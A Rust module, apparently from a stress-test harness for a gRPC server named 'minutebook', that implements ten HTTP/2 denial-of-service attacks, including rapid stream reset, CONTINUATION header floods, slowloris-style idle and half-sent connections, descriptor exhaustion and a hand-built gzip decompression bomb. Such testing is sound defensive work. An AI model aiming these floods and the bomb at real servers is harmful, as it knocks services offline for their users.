//! The attacks, one function each. Each goes on until its time is over, over new lines where the server closes the old
//! ones, and gives how many times it did what it does.

use std::io;
use std::net::SocketAddr;
use std::thread::sleep;
use std::time::{Duration, Instant};

use super::line::{LAST, Line, kind};

const STATUS: &str = "/minutebook.v1.AdminService/GetStatus";
const RECORD: &str = "/minutebook.v1.LedgerService/Record";
const READ: &str = "/minutebook.v1.LedgerService/ReadEvents";
const WATCH: &str = "/grpc.health.v1.Health/Watch";

/// Between two bursts: the attacker is to take the server's time, and not the machine's.
const PAUSE: Duration = Duration::from_millis(2);
/// So many times something is done in one burst.
const BURST: u64 = 32;
/// As many bursts on one line.
const BURSTS: u64 = 64;
/// As many lines are held at once.
const LINES: usize = 16;
/// As many lines on which nothing is said.
const SILENT: usize = 2_000;
/// The largest frame.
const FRAME: usize = 16_384;

/// An attack: where, and until when.
pub(super) type Attack = fn(SocketAddr, Instant) -> u64;

/// Every attack, by its name.
pub(super) const ATTACKS: [(&str, Attack); 10] = [
    ("streams that are reset at once", rapid_reset),
    ("more streams than are allowed", stream_flood),
    ("frames that make the server reset streams", invalid_frames),
    ("messages that are half sent", half_messages),
    ("readers that take nothing", slow_readers),
    ("lines on which nothing is said", silent_lines),
    ("more lines than there are file descriptors", lines_beyond_descriptors),
    ("headers without an end", endless_headers),
    ("a small message that unpacks to a large one", compressed_bomb),
    ("empty and tiny parts of a message", tiny_parts),
];

/// Does something in bursts, on one line after the other.
fn bursts(at: SocketAddr, until: Instant, mut act: impl FnMut(&mut Line)) -> u64 {
    let mut done = 0;
    while Instant::now() < until {
        let Ok(mut line) = Line::greet(at) else {
            sleep(PAUSE);
            continue;
        };
        for _ in 0..BURSTS {
            (0..BURST).for_each(|_| act(&mut line));
            done += BURST;
            // A line that the server closed is what was asked for.
            if line.send().is_err() || line.drain().is_err() || Instant::now() >= until {
                break;
            }
            sleep(PAUSE);
        }
        sleep(PAUSE);
    }
    done
}

/// Keeps so many lines open, new ones where the server closes them.
fn held(until: Instant, lines: usize, open: impl Fn() -> io::Result<Line>, is_read: bool) -> u64 {
    let (mut held, mut done): (Vec<Line>, u64) = (Vec::new(), 0);
    while Instant::now() < until {
        if is_read {
            held.retain_mut(|line| line.drain().is_ok());
        }
        while held.len() < lines && Instant::now() < until {
            let Ok(line) = open() else { break };
            held.push(line);
            done += 1;
        }
        sleep(PAUSE * 50);
    }
    done
}

fn rapid_reset(at: SocketAddr, until: Instant) -> u64 {
    bursts(at, until, |line| {
        let stream = line.ask_empty(STATUS);
        line.frame(kind::RESET, 0, stream, &8_u32.to_be_bytes());
    })
}

fn stream_flood(at: SocketAddr, until: Instant) -> u64 {
    bursts(at, until, |line| {
        line.ask_empty(WATCH);
    })
}

fn invalid_frames(at: SocketAddr, until: Instant) -> u64 {
    bursts(at, until, |line| {
        let stream = line.ask(STATUS, &[]);
        // A window that grows by nothing is an error of the stream.
        line.frame(kind::WINDOW, 0, stream, &[0; 4]);
    })
}

fn half_messages(at: SocketAddr, until: Instant) -> u64 {
    let open = || {
        let mut line = Line::greet(at)?;
        for _ in 0..100 {
            let stream = line.ask(RECORD, &[]);
            // A message of 4 MiB, of which one byte is sent.
            line.frame(kind::DATA, 0, stream, &[0, 0, 0x40, 0, 0, 0x0a]);
        }
        line.send()?;
        Ok(line)
    };
    held(until, LINES, open, true) * 100
}

fn slow_readers(at: SocketAddr, until: Instant) -> u64 {
    let open = || {
        let mut line = Line::greet(at)?;
        for _ in 0..50 {
            line.ask_empty(READ);
        }
        line.send()?;
        Ok(line)
    };
    held(until, LINES, open, false) * 50
}

fn silent_lines(at: SocketAddr, until: Instant) -> u64 {
    held(until, SILENT, || Line::dial(at), true)
}

fn lines_beyond_descriptors(at: SocketAddr, until: Instant) -> u64 {
    held(until, SILENT, || Line::greet(at), true)
}

fn endless_headers(at: SocketAddr, until: Instant) -> u64 {
    // Headers of one letter and no value each.
    let block = [0x00, 0x01, b'a', 0x00].repeat(FRAME / 4);
    bursts(at, until, |line| {
        let stream = line.stream();
        line.frame(kind::HEADERS, 0, stream, &block);
        (0..8).for_each(|_| line.frame(kind::CONTINUATION, 0, stream, &block));
    })
}

fn compressed_bomb(at: SocketAddr, until: Instant) -> u64 {
    let packed = zeros_in_gzip();
    let length = u32::try_from(packed.len()).unwrap_or(u32::MAX);
    let message = [&[1][..], &length.to_be_bytes(), &packed].concat();
    bursts(at, until, |line| {
        let stream = line.ask(RECORD, &[("grpc-encoding", "gzip")]);
        line.frame(kind::DATA, LAST, stream, &message);
    })
}

fn tiny_parts(at: SocketAddr, until: Instant) -> u64 {
    bursts(at, until, |line| {
        let stream = line.ask(RECORD, &[]);
        for _ in 0..64 {
            line.frame(kind::DATA, 0, stream, &[]);
            line.frame(kind::DATA, 0, stream, &[0]);
        }
    })
}

/// Two million zeros in a frame: a zero, and then "the same 258 times" in thirteen bits each.
fn zeros_in_gzip() -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    // The last block, with the codes that stand in RFC 1951, then the literal 0.
    let mut bits = vec![true, true, false];
    bits.extend([false, false, true, true, false, false, false, false]);
    let same = [true, true, false, false, false, true, false, true, false, false, false, false, false];
    (0..8_000).for_each(|_| bits.extend(same));
    bits.extend([false; 7]);
    for part in bits.chunks(8) {
        bytes.push((0_u8..).zip(part).filter(|(_, bit)| **bit).fold(0, |byte, (place, _)| byte | (1 << place)));
    }
    bytes.extend([0; 8]);
    bytes
}
